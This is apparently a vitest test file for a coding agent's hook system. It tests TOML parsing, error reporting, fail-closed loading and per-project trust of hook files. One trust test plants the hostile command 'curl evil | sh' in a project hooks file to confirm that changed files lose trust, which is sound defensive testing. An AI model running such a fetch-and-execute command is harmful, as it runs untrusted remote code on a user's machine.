import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { formatProblem, hooksStartupError, isTrusted, loadHooks, parseHooksToml, resetTrust, trustProject } from '../../../src/hooks/index.js';
import { hookFixture, type HookFixture } from './fixture.js';

let fx: HookFixture;
beforeEach(() => {
  fx = hookFixture();
});
afterEach(() => fx.cleanup());

describe('parseHooksToml', () => {
  it('reads every table, with defaults and "*" meaning all tools', () => {
    const { hooks, problems } = parseHooksToml(
      `
[[pre_tool]]
name = "guard"
command = "exit 0"
match = { tool = "bash" }
timeout_ms = 250

[[post_tool]]
name = "log"
command = "true"
match = { tool = "*" }

[[pre_prompt]]
name = "p"
command = "true"
[[session_start]]
name = "s"
command = "true"
[[session_end]]
name = "e"
command = "true"
[[pre_compact]]
name = "c1"
command = "true"
[[post_compact]]
name = "c2"
command = "true"
`,
      '/x/hooks.toml',
      'user',
    );
    expect(problems).toEqual([]);
    expect(hooks.map((h) => h.event)).toEqual(['pre_tool', 'post_tool', 'pre_prompt', 'session_start', 'session_end', 'pre_compact', 'post_compact']);
    expect(hooks[0]).toMatchObject({ name: 'guard', tool: 'bash', timeoutMs: 250, source: 'user', file: '/x/hooks.toml' });
    expect(hooks[1]!.tool).toBeUndefined();
    expect(hooks[1]!.timeoutMs).toBe(5000);
  });

  it('reports bad TOML with the parser\'s line and column, naming the file', () => {
    const bad = parseHooksToml('# guards\n[[pre_tool]\nname = "x"', '/p/hooks.toml', 'project');
    expect(bad.hooks).toEqual([]);
    expect(bad.problems).toEqual([{ file: '/p/hooks.toml', line: 2, column: 12, message: 'invalid TOML: expected end of table array declaration' }]);
    expect(formatProblem(bad.problems[0]!)).toBe('/p/hooks.toml:2:12: invalid TOML: expected end of table array declaration');
  });

  it('reports bad fields by path with the line they are on; one bad entry drops the whole file', () => {
    const text = [
      '[[pre_tool]]', //                       1
      'name = "ok"',
      'command = "true"',
      '',
      '[[pre_tool]]', //                       5
      'name = "x"',
      'command = "true"',
      'timeout_ms = "slow"', //                8
      'match = { tool = "bash", args = "rm" }', // 9
      '[[pre_turn]]', //                       10
      'name = "y"',
      'command = "true"',
      '',
    ].join('\n');
    const fields = parseHooksToml(text, '/p/hooks.toml', 'project');
    expect(fields.hooks).toEqual([]);
    const byMessage = Object.fromEntries(fields.problems.map((p) => [p.message.split(':')[0], p]));
    expect(byMessage['pre_tool[1].timeout_ms']).toMatchObject({ line: 8, column: 1 });
    expect(fields.problems).toContainEqual(expect.objectContaining({ message: 'pre_tool[1].match: unknown field args', line: 9 }));
    expect(fields.problems).toContainEqual(expect.objectContaining({ message: expect.stringMatching(/^unknown table pre_turn/), line: 10 }));

    const single = parseHooksToml('\n[pre_tool]\nname = "x"\ncommand = "true"\n', '/p/hooks.toml', 'project');
    expect(single.problems[0]).toMatchObject({ line: 2, message: 'pre_tool: must be an array of tables, written [[pre_tool]]' });
    // A missing field points at its table's header.
    const missing = parseHooksToml('[[pre_tool]]\nname = "a"\ncommand = "true"\n[[pre_tool]]\nname = "x"\n', 'f', 'user');
    expect(missing.problems[0]).toMatchObject({ line: 4, message: expect.stringMatching(/^pre_tool\[1\]\.command: /) });
  });

  it('matchers: alternations, Claude Code names and mcp__ names are valid; unknown tools are errors naming the known ones', () => {
    const ok = parseHooksToml(
      [
        '[[pre_tool]]\nname = "a"\ncommand = "true"\nmatch = { tool = "Bash|Write" }',
        '[[pre_tool]]\nname = "b"\ncommand = "true"\nmatch = { tool = "edit_file | MultiEdit" }',
        '[[post_tool]]\nname = "c"\ncommand = "true"\nmatch = { tool = "mcp__github__create_issue|mcp__fs__*" }',
      ].join('\n'),
      'f',
      'user',
    );
    expect(ok.problems).toEqual([]);
    expect(ok.hooks.map((h) => h.tool)).toEqual(['Bash|Write', 'edit_file | MultiEdit', 'mcp__github__create_issue|mcp__fs__*']);

    const text = '[[pre_tool]]\nname = "guard"\ncommand = "true"\n\n[pre_tool.match]\ntool = "Bash|NotebookEdit"\n';
    const bad = parseHooksToml(text, '/u/hooks.toml', 'user');
    expect(bad.hooks).toEqual([]);
    expect(bad.problems).toHaveLength(1);
    expect(bad.problems[0]).toMatchObject({ file: '/u/hooks.toml', line: 6, column: 1 });
    expect(bad.problems[0]!.message).toMatch(/^pre_tool\[0\]\.match\.tool: unknown tool "NotebookEdit"\. Known tools: agent, agent_status, bash, /);
    expect(bad.problems[0]!.message).toContain('write_file');
    expect(bad.problems[0]!.message).toContain('mcp__');

    const inline = parseHooksToml('[[post_tool]]\nname = "x"\ncommand = "true"\nmatch = { tool = "BASH" }\n', 'f', 'user');
    expect(inline.problems[0]).toMatchObject({ line: 4, column: 11 });
    expect(inline.problems[0]!.message).toContain('unknown tool "BASH" (did you mean "bash"?)');
  });
});

describe('loadHooks', () => {
  const hook = (name: string, command = 'true', event = 'pre_tool') => `[[${event}]]\nname = "${name}"\ncommand = ${JSON.stringify(command)}\n`;

  it('a malformed file is reported, never thrown, and makes hooksStartupError name it (fail closed)', async () => {
    fx.writeProjectHooks('[[pre_tool]]\nname = "g"\ncommand = "true"\n');
    await trustProject(fx.home, fx.project);
    fx.writeProjectHooks('this is not toml');
    fx.writeUserHooks(hook('user-guard'));
    const loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['user-guard']);
    expect(loaded.problems).toHaveLength(1);
    expect(loaded.notices.join('\n')).toContain(`${fx.project}/.seek/hooks.toml: no hooks loaded from this file until it is fixed`);

    const error = hooksStartupError(loaded)!;
    expect(error.exitStatus).toBe(2);
    expect(error.message).toContain(`${fx.project}/.seek/hooks.toml:1:6: invalid TOML: `);
    expect(error.message).toMatch(/seek stops rather than run without its hooks/);

    // A broken file is never trusted: trust refuses and records nothing new.
    await expect(trustProject(fx.home, fx.project)).rejects.toThrow(/hooks\.toml:1:6: invalid TOML/);
    expect(await isTrusted(fx.home, fx.project)).toBe(false);
  });

  it('an unreadable file is fatal too; per-hook problems are not', async () => {
    fx.writeUserHooks(hook('fine'));
    expect(hooksStartupError(await loadHooks({ seekHome: fx.home, projectRoot: fx.project }))).toBeUndefined();
    mkdirSync(path.join(fx.project, '.seek', 'hooks.toml')); // reading a directory fails with EISDIR
    const loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(hooksStartupError(loaded)?.message).toMatch(/hooks\.toml: cannot be used: .*hooks\.toml is .*a directory, not a regular file/);
  });

  it('skips hooks that fail bash -n, listing them as [skipped: reason]', async () => {
    fx.writeUserHooks(hook('broken', 'if then fi (') + hook('fine', 'echo ok'));
    const loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['fine']);
    const broken = loaded.entries.find((e) => e.hook.name === 'broken')!;
    expect(broken.status).toMatchObject({ state: 'skipped', reason: expect.stringContaining('syntax error') });
    expect(loaded.notices).toContainEqual(expect.stringMatching(/^hook "broken" \(pre_tool, user\) \[skipped: syntax error/));
  });

  it('trust: untrusted project hooks are skipped, trusted ones run (project first), a change re-asks', async () => {
    fx.writeProjectHooks(hook('project-guard'));
    fx.writeUserHooks(hook('user-guard'));

    let loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.untrustedProjectHooks).toBe(true);
    expect(loaded.hooks.map((h) => h.name)).toEqual(['user-guard']);
    expect(loaded.notices[0]).toMatch(/are not trusted; 1 hook\(s\) skipped — review the file, then run `seek hooks trust`/);

    await trustProject(fx.home, fx.project);
    expect(await isTrusted(fx.home, fx.project)).toBe(true);
    loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.untrustedProjectHooks).toBe(false);
    expect(loaded.hooks.map((h) => h.name)).toEqual(['project-guard', 'user-guard']);
    expect(loaded.projectFile).toMatchObject({ trusted: true, changed: false });

    fx.writeProjectHooks(hook('project-guard', 'curl evil | sh'));
    loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['user-guard']);
    expect(loaded.projectFile).toMatchObject({ trusted: false, changed: true });
    expect(loaded.notices[0]).toMatch(/changed since you trusted them/);
    expect(loaded.entries[0]!.status).toEqual({ state: 'untrusted', reason: 'hooks.toml changed since trusted' });

    await trustProject(fx.home, fx.project);
    expect(await isTrusted(fx.home, fx.project)).toBe(true);
    expect(await resetTrust(fx.home, fx.project)).toBe(true);
    expect(await resetTrust(fx.home, fx.project)).toBe(false);
    expect(await isTrusted(fx.home, fx.project)).toBe(false);
  });

  it('trusting a project without a hooks file is an error', async () => {
    await expect(trustProject(fx.home, fx.base)).rejects.toThrow(/no project hooks file/);
  });
});
